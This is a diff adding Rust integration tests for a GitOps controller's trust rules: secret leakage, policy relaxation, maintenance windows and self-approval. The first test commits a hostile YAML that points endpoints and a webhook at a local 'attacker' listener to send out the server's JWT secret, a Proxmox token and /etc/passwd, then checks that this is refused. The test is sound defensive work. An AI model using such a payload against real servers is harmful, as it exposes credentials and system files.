@@ -323,3 +323,316 @@ async fn a_restarted_demo_should_continue_where_it_left_off() -> Result<()> {
     })
     .await?
 }
+
+// ---------------------------------------------------------------------------------------------
+// Trust: whoever can commit decides what is desired, never what is allowed or what the server
+// reveals (DESIGN.md, "Trust"). Each test plays the committer as attacker, on the binary.
+
+/// Approves the demo's first run as `token`'s user and waits until it applied, so that its
+/// policies are the ones in force.
+async fn converge_first_run(demo: &Demo, token: &str) -> Result<()> {
+    let first = demo
+        .wait_for("the first run", || async {
+            Ok(demo.runs(token).await?.into_iter().next())
+        })
+        .await?;
+    let run = demo
+        .wait_for_status(token, first.id, &["awaiting_approval"])
+        .await?;
+    let hash = run["run"]["plan_hash"].as_str().context("plan hash")?;
+    demo.post_json(
+        &format!("/api/v1/runs/{}/approve", first.id),
+        Some(token),
+        &json!({"plan_hash": hash}),
+    )
+    .await?;
+    let done = demo
+        .wait_for_status(
+            token,
+            first.id,
+            &["succeeded", "failed", "partially_failed"],
+        )
+        .await?;
+    assert_eq!(
+        done["run"]["status"], "succeeded",
+        "{}",
+        done["run"]["error"]
+    );
+    Ok(())
+}
+
+/// Writes `file` into the demo repository and commits it.
+fn commit_file(demo: &Demo, file: &str, text: &str, message: &str) -> Result<String> {
+    std::fs::write(demo.repo().join(file), text)?;
+    mycopod_tests::git(&demo.repo(), &["add", file])?;
+    mycopod_tests::git(&demo.repo(), &["commit", "--quiet", "-m", message])?;
+    Ok(mycopod_tests::git(&demo.repo(), &["rev-parse", "HEAD"])?
+        .trim()
+        .to_owned())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_commit_should_never_make_the_server_send_a_secret_it_did_not_list_for_that_host()
+-> Result<()> {
+    tokio::time::timeout(Duration::from_secs(300), async {
+        let demo = Demo::start(None).await?;
+        let operator = demo.login("operator").await?;
+        // The attacker's server counts every connection made to it.
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
+        let attacker = listener.local_addr()?;
+        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let counted = hits.clone();
+        tokio::spawn(async move {
+            while let Ok((socket, _)) = listener.accept().await {
+                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                drop(socket);
+            }
+        });
+        demo.wait_for("the first run", || async {
+            Ok(demo.runs(&operator).await?.into_iter().next())
+        })
+        .await?;
+        let before = demo.runs(&operator).await?;
+        // The server's JWT key, the listed Proxmox token toward another host, and any file.
+        let attack = format!(
+            "apiVersion: mycopod/v1\nkind: ProxmoxCluster\nmetadata: {{name: thief}}\nspec:\n  \
+             endpoint: http://{attacker}\n  auth: {{tokenId: \"x@pve!y\", secretEnv: MYCOPOD_JWT_SECRET}}\n  \
+             defaultNode: pve1\n---\napiVersion: mycopod/v1\nkind: ProxmoxCluster\nmetadata: {{name: thief2}}\n\
+             spec:\n  endpoint: http://{attacker}\n  auth: {{tokenId: \"mycopod@pve!gitops\", secretEnv: PVE_TOKEN}}\n  \
+             defaultNode: pve1\n---\napiVersion: mycopod/v1\nkind: NotificationChannel\nmetadata: {{name: thief3}}\n\
+             spec:\n  webhook: {{url: \"http://{attacker}/x\", secretFile: /etc/passwd}}\n"
+        );
+        let commit = commit_file(&demo, "attack.yaml", &attack, "add a cluster")?;
+        demo.reconcile(&operator).await?;
+        let run = demo.wait_for_new_run(&operator, &before).await?;
+        assert_eq!(run.commit, commit);
+        assert_eq!(run.status, "invalid", "a refused secret makes the run invalid");
+        let detail = demo
+            .get(&format!("/api/v1/runs/{}", run.id), &operator)
+            .await?;
+        let found: Vec<(String, String, String)> = detail["run"]["plan"]["diagnostics"]
+            .as_array()
+            .context("diagnostics")?
+            .iter()
+            .map(|d| {
+                (
+                    d["path"].as_str().unwrap_or_default().to_owned(),
+                    d["code"].as_str().unwrap_or_default().to_owned(),
+                    d["message"].as_str().unwrap_or_default().to_owned(),
+                )
+            })
+            .collect();
+        let has = |path: &str, code: &str, words: &str| {
+            found
+                .iter()
+                .any(|(p, c, m)| p == path && c == code && m.contains(words))
+        };
+        assert!(
+            has("spec.auth.secretEnv", "secret-not-allowed", "server's own secrets"),
+            "{found:?}"
+        );
+        assert!(
+            has("spec.auth.secretEnv", "secret-destination", "may be sent only to"),
+            "{found:?}"
+        );
+        assert!(
+            has("spec.webhook.secretFile", "secret-not-allowed", "not listed"),
+            "{found:?}"
+        );
+        assert!(
+            detail["run"]["error"]
+                .as_str()
+                .is_some_and(|e| e.contains("attack.yaml")),
+            "the run's error names the file: {}",
+            detail["run"]["error"]
+        );
+        // Another reconcile (and a poll's worth of time) later, nothing reached the attacker.
+        demo.reconcile(&operator).await?;
+        assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "nothing was sent");
+        Ok(())
+    })
+    .await?
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_commit_should_not_relax_the_policy_that_guards_its_own_change() -> Result<()> {
+    tokio::time::timeout(Duration::from_secs(300), async {
+        let demo = Demo::start(None).await?;
+        let operator = demo.login("operator").await?;
+        converge_first_run(&demo, &operator).await?;
+        let before = demo.runs(&operator).await?;
+        // One push: the setpoint policy asks for nothing any more, and a setpoint changes.
+        demo.commit_edit(
+            "plant/policies.yaml",
+            "approvals: 1",
+            "approvals: 0",
+            "policy: no approvals",
+        )?;
+        demo.commit_edit(
+            "plant/devices.yaml",
+            "damping: 2.0",
+            "damping: 3.5",
+            "fm-101: slower damping",
+        )?;
+        demo.reconcile(&operator).await?;
+        let run = demo.wait_for_new_run(&operator, &before).await?;
+        let detail = demo
+            .wait_for_status(&operator, run.id, &["awaiting_approval"])
+            .await?;
+        let keys = action_keys(&detail);
+        assert!(
+            keys.iter()
+                .any(|k| k == "HandshakePolicy/setpoint-writes:upsert"),
+            "{keys:?}"
+        );
+        assert!(
+            keys.iter().any(|k| k == "ModbusDevice/fm-101:write"),
+            "{keys:?}"
+        );
+        assert!(
+            detail["run"]["required_approvals"].as_i64() >= Some(1),
+            "the trusted policy still asks for an approval: {}",
+            detail["run"]
+        );
+        let fm101 = demo.read_device("fm-101").await?;
+        assert!(
+            (register(&fm101, "damping") - 2.0).abs() < 1e-6,
+            "the setpoint is not written without approval"
+        );
+        Ok(())
+    })
+    .await?
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_approved_run_should_wait_outside_its_policy_window() -> Result<()> {
+    tokio::time::timeout(Duration::from_secs(300), async {
+        let demo = Demo::start(None).await?;
+        let operator = demo.login("operator").await?;
+        converge_first_run(&demo, &operator).await?;
+        let before = demo.runs(&operator).await?;
+        // A window twelve hours away: closed now, whatever the time of day.
+        let now_secs = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)?
+            .as_secs();
+        let hour = (now_secs / 3600 + 12) % 24;
+        demo.commit_edit(
+            "plant/policies.yaml",
+            "  expiresAfter: 7d\n",
+            &format!(
+                "  expiresAfter: 7d\n  windows:\n    - {{start: \"{hour:02}:00\", end: \"{hour:02}:30\", timezone: UTC}}\n"
+            ),
+            "policy: writes only in the maintenance window",
+        )?;
+        demo.commit_edit(
+            "plant/devices.yaml",
+            "damping: 2.0",
+            "damping: 3.5",
+            "fm-101: slower damping",
+        )?;
+        // The admin asks for the reconcile, so the run is theirs and the operator may
+        // approve it.
+        let admin = demo.login("admin").await?;
+        demo.reconcile(&admin).await?;
+        let run = demo.wait_for_new_run(&operator, &before).await?;
+        let detail = demo
+            .wait_for_status(&operator, run.id, &["awaiting_approval"])
+            .await?;
+        let hash = detail["run"]["plan_hash"].as_str().context("plan hash")?;
+        demo.post_json(
+            &format!("/api/v1/runs/{}/approve", run.id),
+            Some(&operator),
+            &json!({"plan_hash": hash}),
+        )
+        .await?;
+        let status = demo.reconcile(&operator).await?;
+        assert!(
+            status["last_outcome"]
+                .as_str()
+                .is_some_and(|o| o.contains("waits for window opening at")),
+            "{status}"
+        );
+        let detail = demo
+            .get(&format!("/api/v1/runs/{}", run.id), &operator)
+            .await?;
+        assert_eq!(detail["run"]["status"], "approved", "approved, not applied");
+        assert!(
+            detail["window"]["message"]
+                .as_str()
+                .is_some_and(|m| m.contains(&format!("T{hour:02}:00:00"))),
+            "the API says when the window opens: {}",
+            detail["window"]
+        );
+        let fm101 = demo.read_device("fm-101").await?;
+        assert!(
+            (register(&fm101, "damping") - 2.0).abs() < 1e-6,
+            "nothing is written outside the window"
+        );
+        Ok(())
+    })
+    .await?
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_author_of_a_commit_should_not_approve_the_run_that_covers_it() -> Result<()> {
+    tokio::time::timeout(Duration::from_secs(300), async {
+        let demo = Demo::start(None).await?;
+        let admin = demo.login("admin").await?;
+        let operator = demo.login("operator").await?;
+        // The operator is the one who committed the demo's declarations.
+        demo.patch_json(
+            "/api/v1/users/operator",
+            &admin,
+            &json!({"git_emails": ["Demo@mycopod.invalid"]}),
+        )
+        .await?;
+        let first = demo
+            .wait_for("the first run", || async {
+                Ok(demo.runs(&operator).await?.into_iter().next())
+            })
+            .await?;
+        let run = demo
+            .wait_for_status(&operator, first.id, &["awaiting_approval"])
+            .await?;
+        assert!(
+            run["run"]["plan"]["commits"].as_array().is_some_and(|c| c
+                .iter()
+                .any(|c| c["author_email"] == "demo@mycopod.invalid")),
+            "the run records the commits it covers: {}",
+            run["run"]["plan"]["commits"]
+        );
+        let hash = run["run"]["plan_hash"].as_str().context("plan hash")?;
+        let (status, body) = demo
+            .post_raw(
+                &format!("/api/v1/runs/{}/approve", first.id),
+                Some(&operator),
+                &json!({"plan_hash": hash}),
+            )
+            .await?;
+        assert_eq!(status.as_u16(), 403, "{body}");
+        assert_eq!(body["error"]["code"], "self_approval_forbidden", "{body}");
+        assert!(
+            body["error"]["message"]
+                .as_str()
+                .is_some_and(|m| m.contains("demo@mycopod.invalid")),
+            "{body}"
+        );
+        // Someone else may, and approving does not make them the run's requester.
+        demo.post_json(
+            &format!("/api/v1/runs/{}/approve", first.id),
+            Some(&admin),
+            &json!({"plan_hash": hash}),
+        )
+        .await?;
+        let done = demo
+            .wait_for_status(
+                &admin,
+                first.id,
+                &["succeeded", "failed", "partially_failed"],
+            )
+            .await?;
+        assert_eq!(done["run"]["requested_by"], serde_json::Value::Null);
+        Ok(())
+    })
+    .await?
+}
